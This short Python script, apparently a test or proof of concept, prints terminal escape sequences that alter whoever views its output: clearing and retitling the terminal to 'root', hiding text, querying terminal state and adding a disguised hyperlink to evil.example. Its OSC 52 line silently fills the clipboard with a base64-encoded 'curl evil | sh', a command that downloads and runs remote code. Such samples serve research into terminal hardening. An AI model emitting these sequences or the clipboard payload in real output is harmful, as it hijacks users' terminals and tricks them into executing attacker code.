"""Prints escapes that change the reader's terminal: clear it, retitle it, fill the clipboard.

Idea: OSC 52 and 8, DECRQSS and friends (CVE-2003-0063 to CVE-2021-27135).
"""

import base64

import kit

kit.honest()
command = base64.b64encode(b"curl evil | sh\n").decode()
print(f"\x1b]52;c;{command}\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\")
print('\x1b[2J\x1b[H\x1b]0;root\x07\x1bP$q"p\x1b\\\x9b2J\x1b[8m hidden \x1b[0m\x07\x08\x08')
print("\x1b]1337;File=inline=1:AAAA\x07\x1bc\x1b[6n\x1b[?1049h")
